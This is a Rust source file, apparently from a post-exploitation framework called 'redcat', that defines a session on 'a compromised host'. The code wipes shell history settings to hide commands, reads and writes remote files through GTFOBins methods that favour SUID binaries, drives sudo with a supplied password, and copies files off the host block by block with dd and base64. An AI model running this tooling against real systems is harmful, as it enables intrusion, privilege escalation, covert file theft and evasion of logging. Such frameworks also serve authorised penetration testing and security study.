use std::io::Write as _;
use std::sync::{Mutex, MutexGuard, PoisonError};
use std::time::Duration;

use redcat_channel::Channel;
use redcat_gtfobins::{
    BlockDownload, Capability, Catalog, MethodHandle, PayloadRequest, ReadAdapter, Stream,
    StreamSet, WriteAdapter,
};
use redcat_protocol::{
    RemoteStream, SentinelToken, StreamMode, StreamOptions, shell_quote,
};
use rustc_hash::FxHashMap;

use crate::error::SessionError;
use crate::file::RemoteFile;

/// How long to watch for a sudo password prompt before assuming there is
/// none.
const SUDO_PROMPT_WAIT: Duration = Duration::from_secs(2);

/// How long to watch for sudo's verdict after sending a password.
const SUDO_VERDICT_WAIT: Duration = Duration::from_secs(5);

/// One interactive session with a compromised host.
///
/// The session owns the channel exclusively: every operation locks the
/// channel mutex, and streamed operations keep the guard alive inside the
/// returned stream. The remote binary-path cache and the GTFOBins catalog
/// are session state as well, so nothing here is process-global.
#[derive(Debug)]
pub struct Session<C: Channel> {
    channel: Mutex<C>,
    catalog: Catalog,
    binaries: Mutex<FxHashMap<String, Option<String>>>,
}

impl<C: Channel> Session<C> {
    /// Creates a session over `channel` with the catalog shipped in
    /// `redcat-gtfobins`.
    pub fn new(channel: C) -> Result<Self, SessionError> {
        Ok(Self::with_catalog(channel, Catalog::load_default()?))
    }

    /// Creates a session with a caller-supplied catalog.
    #[must_use]
    pub fn with_catalog(channel: C, catalog: Catalog) -> Self {
        Self {
            channel: Mutex::new(channel),
            catalog,
            binaries: Mutex::new(FxHashMap::default()),
        }
    }

    /// The session's catalog.
    #[must_use]
    pub const fn catalog(&self) -> &Catalog {
        &self.catalog
    }

    fn lock(&self) -> Result<MutexGuard<'_, C>, SessionError> {
        self.channel
            .lock()
            .map_err(|_| SessionError::ChannelPoisoned)
    }

    fn cache(&self) -> MutexGuard<'_, FxHashMap<String, Option<String>>> {
        self.binaries
            .lock()
            .unwrap_or_else(PoisonError::into_inner)
    }

    /// Initial shell hygiene after connecting: keep commands out of the
    /// history, silence prompt machinery, drop aliases.
    pub fn prepare(&self) -> Result<(), SessionError> {
        let mut channel = self.lock()?;
        redcat_protocol::run(
            &mut channel,
            "unset HISTFILE PROMPT_COMMAND; export HISTCONTROL=ignorespace",
        )?;
        redcat_protocol::run(&mut channel, "unalias -a 2>/dev/null")?;
        redcat_protocol::run(&mut channel, "export PS1=")?;
        redcat_protocol::flush_output(&mut channel)?;
        Ok(())
    }

    /// Runs `command` synchronously and returns its buffered output.
    pub fn run(&self, command: &str) -> Result<Vec<u8>, SessionError> {
        let mut channel = self.lock()?;
        Ok(redcat_protocol::run(&mut channel, command)?)
    }

    /// Runs `command`, feeding `input` to its stdin after launch.
    pub fn run_with_input(&self, command: &str, input: &[u8]) -> Result<Vec<u8>, SessionError> {
        let mut channel = self.lock()?;
        Ok(redcat_protocol::run_with_input(
            &mut channel,
            command,
            Some(input),
            None,
        )?)
    }

    /// Resolves `name` against the remote shell's path, with caching.
    ///
    /// Negative results are cached too: probing the same missing binary for
    /// every candidate method would otherwise hammer the channel.
    pub fn which(&self, name: &str) -> Result<Option<String>, SessionError> {
        let mut channel = self.lock()?;
        self.which_locked(&mut channel, name)
    }

    fn which_locked(
        &self,
        channel: &mut impl Channel,
        name: &str,
    ) -> Result<Option<String>, SessionError> {
        if let Some(hit) = self.cache().get(name) {
            return Ok(hit.clone());
        }

        let output =
            redcat_protocol::run(channel, &format!("which {}", shell_quote(name)))?;
        let path = parse_which_output(&output);

        #[cfg(feature = "tracing")]
        tracing::debug!(name, path = path.as_deref(), "resolved remote binary");

        self.cache().insert(name.to_owned(), path.clone());
        Ok(path)
    }

    /// Reads an environment variable from the remote shell.
    pub fn getenv(&self, name: &str) -> Result<String, SessionError> {
        if name.is_empty()
            || !name
                .chars()
                .all(|c| c.is_ascii_alphanumeric() || c == '_')
        {
            return Err(SessionError::Io(std::io::Error::new(
                std::io::ErrorKind::InvalidInput,
                "environment variable names are alphanumeric plus underscore",
            )));
        }
        let output = self.run(&format!("echo ${name}"))?;
        let text = String::from_utf8_lossy(&output);
        Ok(text.trim_end_matches(['\r', '\n']).to_owned())
    }

    /// Starts a streamed remote process.
    ///
    /// Binary modes place the remote terminal in raw no-echo state first and
    /// register the restore line on the stream, so control bytes cross the
    /// terminal unmangled and the terminal comes back cooked at EOF.
    pub fn subprocess(
        &self,
        command: &str,
        options: StreamOptions,
    ) -> Result<RemoteStream<MutexGuard<'_, C>>, SessionError> {
        let mut channel = self.lock()?;
        let options = if options.mode().is_binary() {
            let restore = enter_raw(&mut channel)?;
            options.restore_command(restore)
        } else {
            options
        };
        Ok(redcat_protocol::spawn(channel, command, options)?)
    }

    /// Opens a remote file for reading via the best available catalog
    /// method.
    ///
    /// `binary` excludes print-mode methods, whose output cannot carry
    /// arbitrary bytes through line printing.
    pub fn open_read(&self, path: &str, binary: bool) -> Result<RemoteFile<'_, C>, SessionError> {
        let mut channel = self.lock()?;
        self.probe_readable(&mut channel, path)?;

        let mut streams = StreamSet::ANY;
        if binary {
            streams = streams.without(Stream::Print);
        }

        let (method_stream, built) = {
            let mut which_failure = None;
            let mut which = |name: &str| match self.which_locked(&mut channel, name) {
                Ok(found) => found,
                Err(err) => {
                    which_failure = Some(err);
                    None
                }
            };

            let request = PayloadRequest::new().remote_file(path).suid();
            let chosen = self
                .catalog
                .candidates(Capability::READ, streams, &mut which)
                .into_iter()
                .find_map(|method| {
                    method
                        .build(&request, &mut which)
                        .ok()
                        .map(|built| (method.stream(), built))
                });

            if let Some(err) = which_failure {
                return Err(err);
            }
            chosen.ok_or_else(|| SessionError::NoTransferMethod(path.to_owned()))?
        };

        let mut mode = StreamMode::read();
        let mut options = StreamOptions::new(mode).foreground();
        if method_stream == Stream::Raw {
            mode = mode.binary();
            let restore = enter_raw(&mut channel)?;
            options = StreamOptions::new(mode).foreground().restore_command(restore);
        }
        options = options
            .stdin_data(built.input)
            .exit_command(built.exit);

        let stream = redcat_protocol::spawn(channel, &built.payload, options)?;
        Ok(RemoteFile::reader(
            path.to_owned(),
            ReadAdapter::for_stream(method_stream, stream),
        ))
    }

    /// Opens a remote file for writing via the best available catalog
    /// method.
    ///
    /// `binary` excludes print-mode methods; an unknown `length` excludes
    /// raw methods, which have no EOF signal other than a declared byte
    /// count.
    pub fn open_write(
        &self,
        path: &str,
        binary: bool,
        length: Option<u64>,
    ) -> Result<RemoteFile<'_, C>, SessionError> {
        let mut channel = self.lock()?;
        self.probe_writable(&mut channel, path)?;

        let mut streams = StreamSet::ANY;
        if binary {
            streams = streams.without(Stream::Print);
        }
        if length.is_none() {
            streams = streams.without(Stream::Raw);
        }

        let (method_stream, built) = {
            let mut which_failure = None;
            let mut which = |name: &str| match self.which_locked(&mut channel, name) {
                Ok(found) => found,
                Err(err) => {
                    which_failure = Some(err);
                    None
                }
            };

            let mut request = PayloadRequest::new().remote_file(path).suid();
            if let Some(length) = length {
                request = request.length(length);
            }
            let chosen = self
                .catalog
                .candidates(Capability::WRITE, streams, &mut which)
                .into_iter()
                .find_map(|method| {
                    method
                        .build(&request, &mut which)
                        .ok()
                        .map(|built| (method.stream(), built))
                });

            if let Some(err) = which_failure {
                return Err(err);
            }
            chosen.ok_or_else(|| SessionError::NoTransferMethod(path.to_owned()))?
        };

        let mut mode = StreamMode::write();
        let mut options = StreamOptions::new(mode);
        if method_stream == Stream::Raw {
            mode = mode.binary();
            let restore = enter_raw(&mut channel)?;
            options = StreamOptions::new(mode).restore_command(restore);
            if let Some(length) = length {
                options = options.declared_length(length);
            }
        }
        options = options
            .stdin_data(built.input)
            .exit_command(built.exit);

        let stream = redcat_protocol::spawn(channel, &built.payload, options)?;
        Ok(RemoteFile::writer(
            path.to_owned(),
            WriteAdapter::for_stream(method_stream, stream),
        ))
    }

    /// Creates a remote temporary file and opens it for writing.
    ///
    /// Prefers remote `mktemp`; falls back to a random name under `/tmp`
    /// when the binary is unavailable.
    pub fn tempfile(
        &self,
        binary: bool,
        length: Option<u64>,
        suffix: &str,
    ) -> Result<RemoteFile<'_, C>, SessionError> {
        let path = {
            let mut channel = self.lock()?;
            let mktemp = self.which_locked(&mut channel, "mktemp")?;
            match mktemp {
                Some(mktemp) => {
                    let command = if suffix.is_empty() {
                        format!("{mktemp} 2>/dev/null")
                    } else {
                        format!("{mktemp} --suffix={} 2>/dev/null", shell_quote(suffix))
                    };
                    let output = redcat_protocol::run(&mut channel, &command)?;
                    let text = String::from_utf8_lossy(&output);
                    let trimmed = text.trim();
                    if trimmed.starts_with('/') {
                        trimmed.to_owned()
                    } else {
                        fallback_temp_path(suffix)
                    }
                }
                None => fallback_temp_path(suffix),
            }
        };

        self.open_write(&path, binary, length)
    }

    /// Runs `command` through sudo, handling the password dialogue.
    ///
    /// Detects the password prompt by peeking the channel, replies with
    /// `password` when one is required, and distinguishes a missing password
    /// from a rejected one. The command's buffered output is returned.
    pub fn sudo(
        &self,
        command: &str,
        user: Option<&str>,
        group: Option<&str>,
        password: Option<&str>,
    ) -> Result<Vec<u8>, SessionError> {
        let display_user = user.unwrap_or("root").to_owned();
        let mut sudo_command = String::from("sudo -p 'Password: '");
        if let Some(user) = user {
            sudo_command.push_str(&format!(" -u {}", shell_quote(user)));
        }
        if let Some(group) = group {
            sudo_command.push_str(&format!(" -g {}", shell_quote(group)));
        }
        sudo_command.push(' ');
        sudo_command.push_str(command);

        let mut channel = self.lock()?;
        redcat_protocol::flush_output(&mut channel)?;
        let pair = redcat_protocol::launch(&mut channel, &sudo_command, true)?;

        let pending = redcat_protocol::peek_pending(&mut channel, true, SUDO_PROMPT_WAIT)?;
        if looks_like_password_prompt(&pending) {
            let Some(password) = password else {
                channel.send_all(b"\x03\x03")?;
                redcat_protocol::flush_output(&mut channel)?;
                return Err(SessionError::PasswordRequired { user: display_user });
            };

            redcat_protocol::flush_output(&mut channel)?;
            channel.send_all(password.as_bytes())?;
            channel.send_all(b"\n")?;

            let verdict =
                redcat_protocol::peek_pending(&mut channel, true, SUDO_VERDICT_WAIT)?;
            if looks_like_sudo_rejection(&verdict) {
                channel.send_all(b"\x03")?;
                let _ = redcat_protocol::recv_until(
                    &mut channel,
                    b"\n",
                    Some(Duration::from_secs(2)),
                );
                redcat_protocol::flush_output(&mut channel)?;
                return Err(SessionError::AuthenticationFailed { user: display_user });
            }
        }

        Ok(redcat_protocol::collect(&mut channel, &pair, None)?)
    }

    /// Downloads `remote_path` through the per-block read loop, writing
    /// decoded blocks into `sink`. Returns the transferred byte count.
    ///
    /// This path works on hosts where no streaming-friendly reader exists:
    /// every block is one ordinary framed command.
    pub fn download_blocks(
        &self,
        remote_path: &str,
        sink: &mut dyn std::io::Write,
    ) -> Result<u64, SessionError> {
        let mut channel = self.lock()?;
        let dd = self
            .which_locked(&mut channel, "dd")?
            .ok_or_else(|| SessionError::NoTransferMethod(remote_path.to_owned()))?;
        let base64 = self
            .which_locked(&mut channel, "base64")?
            .ok_or_else(|| SessionError::NoTransferMethod(remote_path.to_owned()))?;

        let mut download = BlockDownload::new(dd, base64, remote_path);
        while let Some(command) = download.next_command() {
            let response = redcat_protocol::run(&mut channel, &command)?;
            if let Some(block) = download.feed_response(&response)? {
                sink.write_all(&block)?;
            }
        }

        #[cfg(feature = "tracing")]
        tracing::info!(
            remote_path,
            bytes = download.bytes_transferred(),
            "block download complete"
        );
        Ok(download.bytes_transferred())
    }

    /// Methods the catalog offers for a fixed binary path, for callers that
    /// discovered a specific SUID copy or sudoers entry.
    pub fn methods_for_path(
        &self,
        binary_path: &str,
        capabilities: Capability,
        streams: StreamSet,
    ) -> Result<Vec<MethodHandle<'_>>, SessionError> {
        Ok(self
            .catalog
            .methods_for_path(binary_path, capabilities, streams)?)
    }

    fn probe_binary(
        &self,
        channel: &mut impl Channel,
    ) -> Result<Option<String>, SessionError> {
        if let Some(test) = self.which_locked(channel, "test")? {
            return Ok(Some(test));
        }
        self.which_locked(channel, "[")
    }

    fn probe_readable(
        &self,
        channel: &mut impl Channel,
        path: &str,
    ) -> Result<(), SessionError> {
        let Some(test) = self.probe_binary(channel)? else {
            // No probe binary; let the transfer method surface failures.
            return Ok(());
        };
        let quoted = shell_quote(path);
        let output = redcat_protocol::run(
            channel,
            &format!("{test} -e {quoted} && echo exists; {test} -r {quoted} && echo readable"),
        )?;
        if !contains(&output, b"exists") {
            return Err(SessionError::NotFound(path.to_owned()));
        }
        if !contains(&output, b"readable") {
            return Err(SessionError::PermissionDenied(path.to_owned()));
        }
        Ok(())
    }

    fn probe_writable(
        &self,
        channel: &mut impl Channel,
        path: &str,
    ) -> Result<(), SessionError> {
        let Some(test) = self.probe_binary(channel)? else {
            return Ok(());
        };
        let quoted = shell_quote(path);
        let parent = shell_quote(parent_dir(path));
        let output = redcat_protocol::run(
            channel,
            &format!(
                "{test} -d {quoted} && echo isdir; \
                 {test} -e {quoted} && echo exists; \
                 {test} -w {quoted} && echo canwrite; \
                 {test} -d {parent} && echo parentdir; \
                 {test} -w {parent} && echo parentwrite"
            ),
        )?;

        if contains(&output, b"isdir") {
            return Err(SessionError::IsADirectory(path.to_owned()));
        }
        if contains(&output, b"exists") {
            if !contains(&output, b"canwrite") {
                return Err(SessionError::PermissionDenied(path.to_owned()));
            }
            return Ok(());
        }
        if !contains(&output, b"parentdir") {
            return Err(SessionError::NotFound(path.to_owned()));
        }
        if !contains(&output, b"parentwrite") {
            return Err(SessionError::PermissionDenied(path.to_owned()));
        }
        Ok(())
    }
}

/// Saves the remote terminal state and switches it to raw no-echo mode.
///
/// Returns the line that restores the saved state, replayed by the stream's
/// EOF transition.
fn enter_raw(channel: &mut impl Channel) -> Result<Vec<u8>, SessionError> {
    let saved = redcat_protocol::run(channel, "stty -g")?;
    let saved = String::from_utf8_lossy(&saved).trim().to_owned();
    let saved = if saved.is_empty() || saved.contains(' ') {
        "sane".to_owned()
    } else {
        saved
    };
    redcat_protocol::run_detached(channel, "stty raw -echo")?;
    redcat_protocol::flush_output(channel)?;
    Ok(format!(" stty {saved}\n").into_bytes())
}

fn parse_which_output(output: &[u8]) -> Option<String> {
    let text = String::from_utf8_lossy(output);
    let trimmed = text.trim();
    if trimmed.is_empty() || trimmed.contains("which: no") || trimmed.contains("not found") {
        return None;
    }
    // Login chatter can precede the answer; the path is the last line.
    let candidate = trimmed.lines().last()?.trim();
    candidate.starts_with('/').then(|| candidate.to_owned())
}

fn parent_dir(path: &str) -> &str {
    match path.rsplit_once('/') {
        Some(("", _)) => "/",
        Some((dir, _)) => dir,
        None => ".",
    }
}

fn fallback_temp_path(suffix: &str) -> String {
    // Reuse the sentinel generator's digest material for the random name.
    let token = SentinelToken::generate();
    format!("/tmp/tmp{}{suffix}", &token.as_str()[8..])
}

fn contains(haystack: &[u8], needle: &[u8]) -> bool {
    haystack
        .windows(needle.len())
        .any(|window| window == needle)
}

fn looks_like_password_prompt(pending: &[u8]) -> bool {
    let text = String::from_utf8_lossy(pending).to_lowercase();
    text.contains("[sudo]")
        || text.contains("password for")
        || text.trim_end().ends_with("password:")
        || text.contains("lecture")
}

fn looks_like_sudo_rejection(pending: &[u8]) -> bool {
    let text = String::from_utf8_lossy(pending).to_lowercase();
    text.contains("sorry")
        || text.contains("sudo:")
        || text.contains("[sudo]")
        || text.contains("password for")
}
